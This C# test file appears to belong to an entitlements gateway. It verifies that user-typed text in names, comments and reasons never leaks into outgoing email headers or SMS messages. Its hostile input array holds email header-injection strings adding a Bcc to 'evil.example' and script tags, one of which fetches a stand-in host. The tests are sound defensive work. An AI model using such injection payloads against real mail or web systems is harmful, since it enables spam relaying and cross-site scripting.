using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using Entitlements.Gateway.Telling;
using Entitlements.Gateway.Telling.People;
using Entitlements.Gateway.Tests.Gateways;
using Entitlements.Gateway.Tests.Management;
using Entitlements.Gateway.Tests.Requests;
using Entitlements.Gateway.Tests.Servers;
using Entitlements.Gateway.Tests.Telling;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Entitlements.Gateway.Tests.Abuse;

/// <summary>What people type is shown to those who are signed in, and to nobody else.</summary>
public sealed class TypedTextTests(PostgresServer postgres)
{
    private const string Template = "5ff9c4b0-6b09-4b8c-9b0a-0a1b2c3d4e5f";

    /// <summary>Each contains the mark; who refuses the first is tried with the next.</summary>
    private static readonly string[] Hostile =
    [
        "zq67\r\nBcc: zq67@evil.example\r\n\r\n<script>zq67()</script>",
        "zq67\nBcc: zq67@evil.example",
        "zq67 <script>fetch('//zq67.example')</script> ((link)) %0d%0aBcc:zq67@evil.example",
    ];

    [Theory, ClassData(typeof(EachDatabase))]
    [Trait("Abuse", "67")]
    public async Task Abuse_67_nothing_that_anybody_typed_reaches_a_mail_or_a_text_message(string database)
    {
        await using var smtp = await SmtpServer.StartAsync();
        await using var notify = await NotifyStub.StartAsync();
        var world = await RequestWorld.StartAsync(
            postgres,
            database,
            ("Smtp:Host", "127.0.0.1"),
            ("Smtp:Port", smtp.Port.ToString(CultureInfo.InvariantCulture)),
            ("Smtp:Security", "None"),
            ("Smtp:From", "entitlements@north.example"),
            ("Notify:BaseUrl", notify.Url),
            ("Notify:ApiKeyFile", notify.KeyFile),
            ("Notify:SmsTemplate", Template)
        );
        await using var gateway = world.Gateway;
        var (officer, texted, approver) = (await world.PersonAsync(), await world.PersonAsync(), await world.PersonAsync("approver"));
        using var admin = world.As("north-role-admin");
        foreach (var person in new[] { officer, texted, approver })
        {
            var path = $"/v1/tenants/north/subjects/{person}";
            await TypedAsync(async text =>
                await admin.PutAsync(
                    path,
                    new
                    {
                        display_name = text,
                        person = $"person-of-{person}",
                        email = $"{person}@north.example",
                        mobile = "+447700900123",
                        tell_by = person == officer ? "mail" : "sms",
                    },
                    await admin.ETagAsync(path)
                )
            );
        }
        var role = await world.RoleAsync();
        var at = $"/v1/tenants/north/roles/{role}";
        await TypedAsync(async text => await admin.PutAsync(at, new { name = text, restricted = true }, await admin.ETagAsync(at)));
        using var voter = world.As(approver);
        foreach (var person in new[] { officer, texted })
        {
            var asked = await TypedAsync(text => world.AskAsync(person, Body(text)));
            var request = (string)(await asked.ShouldBeAsync(HttpStatusCode.Created))["request"]!;
            using var asker = world.As(person);
            await TypedAsync(text => asker.PostAsJsonAsync($"/v1/requests/{request}/comments", new { text }));
            await TypedAsync(text => voter.PostAsJsonAsync($"/v1/requests/{request}/votes", new { vote = "deny", reason = text }));
        }
        await TypedAsync(text => world.AskAsync(officer, Body(text))); // nobody answers: there is a reminder
        world.Clock.Advance(TimeSpan.FromHours(9));
        await world.TidyAsync();
        await SendAsync(world);
        world.Clock.Advance(TimeSpan.FromDays(1)); // what waits is told once a day
        await SendAsync(world);

        var said = Enum.GetNames<PersonMessage>().Append(PersonText.Digest).Select(PersonText.Of).ToList();
        Assert.NotEmpty(smtp.Mails);
        foreach (var mail in smtp.Mails)
        {
            var text = Assert.Single(said, t => mail.Subject == $"{t.En} / {t.Cy}" && mail.TextBody!.StartsWith(t.En, StringComparison.Ordinal));
            var lines = mail.TextBody!.Split('\n', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries);
            Assert.Equal([text.En, text.Cy, $"{gateway.Url.GetLeftPart(UriPartial.Authority)}{text.Path}"], lines);
            Assert.DoesNotContain(mail.Headers, h => h.Value.Contains("zq67", StringComparison.Ordinal) || h.Field is "Bcc" or "Cc");
        }
        Assert.NotEmpty(notify.Taken);
        Assert.All(notify.Taken, taken => Assert.DoesNotContain("zq67", taken.ToJsonString(), StringComparison.Ordinal));
        await gateway.InDatabaseAsync(async db =>
            Assert.DoesNotContain(await db.Deliveries.ToListAsync(), d => $"{d.Payload}{d.Reference}{d.Kind}".Contains("zq67", StringComparison.Ordinal))
        );

        object Body(string text) =>
            new
            {
                role,
                reason = text,
                ticket = "zq67",
            };
    }

    /// <summary>The first hostile text that is taken; 400 for the others.</summary>
    private static async Task<HttpResponseMessage> TypedAsync(Func<string, Task<HttpResponseMessage>> send)
    {
        foreach (var text in Hostile)
        {
            var answer = await send(text);
            if (answer.StatusCode != HttpStatusCode.BadRequest)
            {
                Assert.True(answer.IsSuccessStatusCode, await answer.Content.ReadAsStringAsync());
                return answer;
            }
        }
        throw new InvalidOperationException("every hostile text was refused: nothing is tried");
    }

    private static async Task SendAsync(RequestWorld world)
    {
        var worker = ActivatorUtilities.CreateInstance<DeliveryWorker>(world.Gateway.Services);
        while (await worker.RoundAsync() > 0) { }
    }
}
